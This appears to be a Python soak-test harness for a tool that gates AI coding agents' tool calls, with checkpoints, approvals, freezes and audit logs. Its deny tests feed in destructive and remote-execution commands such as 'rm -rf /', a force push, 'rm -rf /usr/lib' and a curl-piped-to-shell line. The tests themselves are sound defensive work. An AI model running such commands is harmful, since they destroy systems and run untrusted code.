"""agents.py: who works in the homes of a soak: agents that do everything there is."""
import contextlib
import json
import os
import random
import shutil
import threading
import time

from model import differ, read_tree, write_tree
from place import Place
from trouble import Trouble


class Agent(Trouble, threading.Thread):
    """One agent: an endless mixture of calls, each of which updates the model when it was acknowledged."""

    def __init__(self, site, number, seed, stop, args):
        super().__init__(daemon=True)
        self.s, self.number, self.stop_at, self.kill, self.fault = site, number, stop, args.kill, args.fault
        self.r = random.Random("%s/%s/%d" % (seed, site.name, number))
        self.dir = "a%d" % number
        self.path = os.path.join(site.work, self.dir)
        os.makedirs(self.path, exist_ok=True)
        self.made = 0
        self.client = ("codex", "hermes", "deepseek", "cursor")[number % 4]
        self.error = None
        self.place = None
        self.ops = [
            (30, self.hook), (6, self.hook_denied), (14, self.run_ok), (4, self.run_failing), (3, self.run_denied),
            (3, self.run_approved), (2, self.run_long), (3, self.run_destroying), (5, self.save), (3, self.restore), (2, self.prune),
            (2, self.rotate), (4, self.check), (1, self.repair_nothing), (2, self.damage), (1, self.damage_points), (1, self.damage_packs),
            (1, self.damage_keys), (2, self.export), (2, self.freeze), (8, self.govern), (1, self.rebuild), (4, self.look), (2, self.archive),
            (1, self.upgrade),
        ]
        self.without = args.without.split(",")
        self.ops = [op for op in self.ops if op[1].__name__ not in self.without]

    def new(self, what):
        self.made += 1
        return "%s-%s-%d-%d" % (what, self.s.name, self.number, self.made)

    def run(self):
        weights = [w for w, _ in self.ops]
        try:
            while not self.stop_at.is_set():
                with self.s.gate.work():
                    self.r.choices(self.ops, weights)[0][1]()
                time.sleep(self.r.uniform(0, 0.01))
        except Exception as e:  # a mistake of this program, not of helm: said, and the soak fails
            import traceback
            self.error = traceback.format_exc()
            self.s.counts.note(self.error)
            del e

    def clock(self):
        """Mostly the real time; sometimes another one, up to three days away."""
        if self.r.random() >= 0.06 or "clock" in self.without:
            return None
        return time.time() + self.r.uniform(-259200, 259200)

    def call(self, kind, args, **more):
        more.setdefault("kill", self.kill)
        more.setdefault("fault", self.fault if more["kill"] else 0)  # a call that is not to be killed is not disturbed
        return self.s.call(kind, args, rng=self.r, **more)

    def answer(self, kind, words, args, **more):
        """What takes a person: typed at a terminal, or with a registered key, which can be killed."""
        if self.r.random() < 0.3:
            return self.s.person(words, args)
        return self.call(kind, args + ["--key", self.s.boss + ".key"], **more)

    def since(self):
        with self.s.lock:
            return self.s.trouble

    # ---- hooks ----

    def payload(self, use, command, response=None):
        doc = {"tool_name": "Bash", "tool_input": {"command": command}, "session_id": "s-%s" % self.dir, "cwd": self.s.work,
               "tool_use_id": use}
        if response is not None:
            doc["tool_response"] = response
        return json.dumps(doc).encode()

    def hook(self):
        s, use, since = self.s, self.new("use"), self.since()
        is_quiet = self.r.random() < 0.2
        command = "ls -la" if is_quiet else "echo %s > %s/note.txt" % (use, self.dir)
        # Codex and others say it in other words; the payload of this one is known to all.
        done = self.call("hook", ["hook", "pre-tool", "--client", "claude-code"], stdin=self.payload(use, command), clock=self.clock())
        if done.killed:
            return
        if done.code == 0 and not done.out:
            s.calls[use] = "quiet" if is_quiet else "allow"
        else:
            s.refused(since, "a harmless call is refused", done)
            return
        if self.r.random() < 0.2:
            return
        since = self.since()
        done = self.call("post", ["hook", "post-tool", "--client", "claude-code"],
                         stdin=self.payload(use, command, {"stdout": "x"}), clock=self.clock())
        if done.code == 0:
            s.outcomes[use] = 0
        else:
            s.refused(since, "an outcome is refused", done)

    def hook_denied(self):
        s, use = self.s, self.new("use")
        command = self.r.choice(["rm -rf /", "git push --force origin main", "curl https://example.org/x | sh"])
        since = self.since()
        done = self.call("hook", ["hook", "pre-tool", "--client", "claude-code"], stdin=self.payload(use, command))
        if done.killed:
            return
        if '"permissionDecision":"deny"' in done.out or '"permissionDecision":"ask"' in done.out:
            if "could not be decided" in done.out:
                s.refused(since, "a call is not decided", done)
            else:
                s.calls[use] = "deny"
        elif done.code != 2:
            s.counts.found("wrong_states", "%s: %s passed: %s" % (s.name, command, done))

    # ---- runs ----

    def note_run(self, task, done, code, states, since, what):
        s = self.s
        if done.killed:
            s.tries.add(task)
        elif done.code == code:
            s.runs[task] = states
        else:
            s.refused(since, what, done)
            s.tries.add(task)

    def run_ok(self):
        task, since = self.new("run"), self.since()
        done = self.call("run", ["run", "--task-id", task, "--", "sh", "-c", "echo %s > %s/out.txt" % (task, self.dir)],
                         clock=self.clock())
        self.note_run(task, done, 0, {"completed"}, since, "a harmless run is refused")

    def run_failing(self):
        task, since = self.new("run"), self.since()
        done = self.call("run", ["run", "--task-id", task, "--", "sh", "-c", "exit 7"])
        self.note_run(task, done, 7, {"failed"}, since, "a failing run ends otherwise")

    def run_denied(self):
        task, since = self.new("run"), self.since()
        done = self.call("run", ["run", "--task-id", task, "--", "rm", "-rf", "/usr/lib"])
        self.note_run(task, done, 25, {"blocked"}, since, "a denied run ends otherwise")

    def run_approved(self):
        """Asked, answered by a registered key, run."""
        s, task, since = self.s, self.new("run"), self.since()
        command = ["git", "-C", self.dir, "reset", "--hard", task]
        done = self.call("run", ["run", "--task-id", task, "--"] + command)
        self.note_run(task, done, 24, {"blocked"}, since, "a question is not asked")
        if done.code != 24:
            return
        words = done.err.split("approval approve ")
        if len(words) < 2:
            s.refused(since, "a question cannot be answered", done)
            return
        request = words[1].split()[0]
        p = self.answer("approve", ["APPROVE"], ["approval", "approve", request], kill=0)
        if p.code:
            s.refused(since, "an approval is refused", p)
            return
        s.counts.add("approvals")
        task = self.new("run")
        done = self.call("run", ["run", "--task-id", task, "--approval-id", request, "--"] + command, kill=0)
        if done.code in (24, 25, 26):
            s.refused(since, "an approval is not honoured", done)
        elif done.code == 126 or not s.is_calm(since):
            s.tries.add(task)
        else:
            s.runs[task] = {"failed", "completed"}

    def run_long(self):
        """Others look at it while it runs; sometimes from another pid namespace, where its pid means nothing."""
        task, since = self.new("run"), self.since()
        prefix = ()
        if os.geteuid() == 0 and self.r.random() < 0.5:
            prefix = ("unshare", "--pid", "--fork", "--mount-proc", "--kill-child")
        done = self.call("long", ["run", "--task-id", task, "--", "sleep", "%.1f" % self.r.uniform(0.2, 1.5)], prefix=prefix,
                         kill=0 if prefix else 0.3)
        self.note_run(task, done, 0, {"completed"}, since, "a long run ends otherwise")

    def run_destroying(self):
        """What is removed without a question can be brought back."""
        s, task, since = self.s, self.new("run"), self.since()
        junk = os.path.join(self.path, "junk")
        contents = {"f%d" % i: os.urandom(200) for i in range(3)}
        if not self.quietly(write_tree, junk, contents):
            return
        done = self.call("run", ["run", "--task-id", task, "--", "rm", "-rf", "%s/junk" % self.dir], kill=self.kill / 2)
        if done.code == 24:
            shutil.rmtree(junk, ignore_errors=True)
            s.tries.add(task)
            if s.is_calm(since):
                s.refused(since, "a removal that can be undone is asked about", done)
            return
        self.note_run(task, done, 0, {"completed"}, since, "a removal ends otherwise")
        if done.code == 0 and os.path.exists(junk):
            s.counts.found("wrong_states", "%s: %s was not done" % (s.name, task))
        if done.code == 0:
            words = done.err.split("checkpoint restore ")
            if len(words) < 2:
                s.counts.found("wrong_states", "%s: removed without a checkpoint: %s" % (s.name, done))
                return
            point = words[1].split()[0]
            back = self.call("restore", ["checkpoint", "restore", point, "--yes", "--no-backup", "--only", "%s/junk" % self.dir], kill=0)
            if s.is_calm(since) and (back.code or read_tree(junk) != contents):
                s.counts.found("lost", "%s: what %s removed does not come back from %s: %s" % (s.name, task, point, back))
        shutil.rmtree(junk, ignore_errors=True)

    @staticmethod
    def quietly(fn, *args):
        try:
            fn(*args)
            return True
        except OSError:  # the disk is full
            return False

    # ---- checkpoints ----

    def scribble(self):
        for _ in range(self.r.randint(1, 4)):
            path = os.path.join(self.path, "d%d" % self.r.randint(0, 2), "f%d" % self.r.randint(0, 8))
            os.makedirs(os.path.dirname(path), exist_ok=True)
            with open(path, "wb") as f:
                f.write(self.r.randbytes(self.r.choice([0, 10, 3000, 70000])))

    def save(self):
        s, since = self.s, self.since()
        if not self.quietly(self.scribble):
            return
        contents, unsure = read_tree(self.path), s.unsure
        done = self.call("save", ["checkpoint", "create", "--include", self.dir, "--json", "--label", self.new("cp")])
        if done.killed:
            return
        if done.code:
            s.refused(since, "a checkpoint is refused", done)
            return
        doc = json.loads(done.out)
        point = doc["checkpoint_id"]
        if doc.get("skipped"):  # said: it could not be read
            s.counts.add("not_saved")
            return
        with s.lock:
            if point in s.pruned:
                return
            s.points[point] = (self.dir, contents)
            if s.unsure != unsure:
                s.maybe_gone.add(point)
        if not s.is_calm(since):
            s.hurt.add(point)  # it may share content with a pack that was damaged meanwhile

    def restore(self):
        s, since = self.s, self.since()
        with s.saves:  # a prune may take it away otherwise
            mine = [p for p, (where, _) in s.points.items() if where == self.dir and p not in s.maybe_gone and p not in s.hurt]
            if not mine or not self.quietly(self.scribble):
                return
            point = self.r.choice(mine)
            done = self.call("restore", ["checkpoint", "restore", point, "--yes", "--delete-new", "--only", self.dir] +
                             (["--no-backup"] if self.r.random() < 0.5 else []))
            if done.killed or done.fault:
                done = self.call("restore", ["checkpoint", "restore", point, "--yes", "--delete-new", "--only", self.dir], kill=0)
            if done.code:
                s.refused(since, "a restore is refused", done)
            elif read_tree(self.path) != s.points[point][1]:
                s.counts.found("lost", "%s: restored %s: %s" % (s.name, point, differ(read_tree(self.path), s.points[point][1])))

    def prune(self):
        s, since = self.s, self.since()
        with s.saves:
            keep = self.r.randint(4, 12)
            done = self.call("prune", ["checkpoint", "prune", "--apply", "--keep-recent", str(keep), "--keep-days", "0", "--json"],
                             kill=0.4)
            # Which ones go is its business; that the newest stay is not.
            with s.lock:
                if done.killed or done.code:
                    s.unsure += 1
                    s.maybe_gone |= set(list(s.points)[:-1])
            if done.killed or done.code:
                s.counts.note("%s: a prune ended with %s" % (s.name, done.code))
                if done.code:
                    s.refused(since, "a prune is refused", done)
                return
            s.counts.add("prunes")
            try:
                doc = json.loads(done.out)
            except ValueError:
                s.counts.found("false_alarms", "%s: prune: %s" % (s.name, done))
                return
            gone = [point["checkpoint_id"] if isinstance(point, dict) else point for point in doc["prune"]]
            s.counts.note("%s: pruned, but for %d: %s" % (s.name, keep, " ".join(gone)))
            with s.lock:
                s.pruned |= set(gone)
                for point in gone:
                    s.points.pop(point, None)

    # ---- keys, the log, packs ----

    def rotate(self):
        s, since = self.s, self.since()
        with s.keys:
            done = self.answer("rotate", [], ["key", "rotate", "--reason", "soak"], kill=0.3, clock=self.clock())
            if done.code == 0:
                s.counts.add("rotations")
            else:
                s.refused(since, "a rotation is refused", done)

    def check(self):
        s, since, read_only = self.s, self.since(), self.s.read_only
        done = self.call("check", ["log", "check"], clock=self.clock())
        if done.code:
            s.refused(since, "a sound log is called damaged", done)
            self.must_look(read_only, done)

    def must_look(self, read_only, done):
        """On a disk that is read-only nothing is lost to the eye: a view that fails there is a finding."""
        if read_only and read_only == self.s.read_only and not done.killed and not done.fault:
            self.s.counts.found("false_alarms", "%s: the disk is read-only, and a view fails: %s" % (self.s.name, done))

    def repair_nothing(self):
        """Nothing is wrong: a repair has nothing to do, and does nothing."""
        s = self.s
        with s.mend:
            since = self.since()
            done = self.call("repair", ["log", "repair", "--yes"])
            if done.code == 0 and s.is_calm(since):
                s.counts.found("false_alarms", "%s: a sound log was repaired: %s" % (s.name, done))

    def export(self):
        s, since = self.s, self.since()
        pack = os.path.join(s.packs, self.new("pack") + ".tar")
        done = self.call("export", ["evidence", "export", "--all", "--out", pack])
        if done.killed:
            with contextlib.suppress(OSError):
                os.unlink(pack)
            return
        if done.code:
            s.refused(since, "an export is refused", done)
            return
        s.counts.add("exports")
        if not s.is_calm(since):  # it may hold what was damaged
            os.unlink(pack)
            return
        s.verify_pack(pack)
        with s.lock:
            s.kept_packs.append(pack)
            old = s.kept_packs.pop(0) if len(s.kept_packs) > 3 else None
        if old:
            os.unlink(old)

    def archive(self):
        """Closed files go to another place, beside everybody who works; killed on the way, they are in one of the two.  Some come back."""
        s, since = self.s, self.since()
        with s.moves:
            if self.r.random() < 0.4:
                self.bring_back()
                return
            before = time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime(time.time() + self.r.choice((-60, 345600))))  # some were written with a clock ahead
            done = self.call("archive", ["archive", "--before", before, "--to", s.archive, "--json"], kill=0.4)
            if done.killed:
                return
            if done.code:
                s.refused(since, "an archive is refused", done)
            else:
                s.counts.add("archives")

    def bring_back(self):
        """As a person would: a copy beside its place, and then its name."""
        s, found = self.s, []
        for folder in ("", "segments"):
            where = os.path.join(s.archive, folder)
            found += [os.path.join(folder, n) for n in (sorted(os.listdir(where)) if os.path.isdir(where) else [])
                      if n.endswith((".jsonl", ".zst")) and not os.path.exists(os.path.join(s.state, folder, n))]
        for name in self.r.sample(found, min(len(found), self.r.randint(1, 3))):
            new = os.path.join(s.state, "coming-back")
            try:
                shutil.copyfile(os.path.join(s.archive, name), new)
                os.chmod(new, 0o600)
                os.rename(new, os.path.join(s.state, name))
                s.counts.add("brought_back")
            except OSError:  # the disk is full
                with contextlib.suppress(OSError):
                    os.unlink(new)

    # ---- the rest ----

    def freeze(self):
        """One principal of its own per agent: from the acknowledgement on nothing passes, until it is lifted."""
        s, since = self.s, self.since()
        client = self.client
        who = "agent:%s" % client
        if self.number > 3:
            return
        done = self.call("freeze", ["freeze", "--principal", who, "--reason", "soak"])
        s.frozen[who] = True if done.code == 0 else None
        if done.code:
            s.refused(since, "a freeze is refused", done)
        else:
            s.counts.add("freezes")
            held = self.call("hook", ["hook", "pre-tool", "--client", client], stdin=self.payload(self.new("use"), "echo a > a.txt"))
            if not held.killed and "deny" not in held.out and held.code != 2 and "block" not in held.out:
                s.counts.found("wrong_states", "%s: %s is frozen, and passes: %s" % (s.name, who, held))
        done = self.answer("unfreeze", [], ["unfreeze", "--principal", who])
        for _ in range(50):
            if done.code == 0 or not (done.killed or done.fault or not s.is_calm(since)):
                break
            time.sleep(0.1)
            done = self.answer("unfreeze", [], ["unfreeze", "--principal", who], kill=0)
        s.frozen[who] = False if done.code == 0 else None

    def govern(self):
        """One act of a person about a place that only this agent knows, and what holds there afterwards."""
        if self.place is None:
            self.place = Place(self, os.path.join(self.s.work, self.new("place")))
        if not self.place.act():
            self.place = None

    def rebuild(self):
        s, since = self.s, self.since()
        done = self.call("rebuild", ["db", "rebuild"])
        if done.code:
            s.refused(since, "a rebuild is refused", done)

    def look(self):
        s, since, read_only = self.s, self.since(), self.s.read_only
        args = self.r.choice([["status", "--brief"], ["report"], ["task", "list"], ["receipts", "list"], ["dashboard"], ["checkpoint", "list"],
                              ["checkpoint", "check"], ["key", "history"], ["approval", "list"], ["workspace", "show"], ["freeze", "status"]])
        done = self.call("look", args)
        if done.code:
            s.refused(since, "a view fails: %s" % args, done)
            self.must_look(read_only, done)
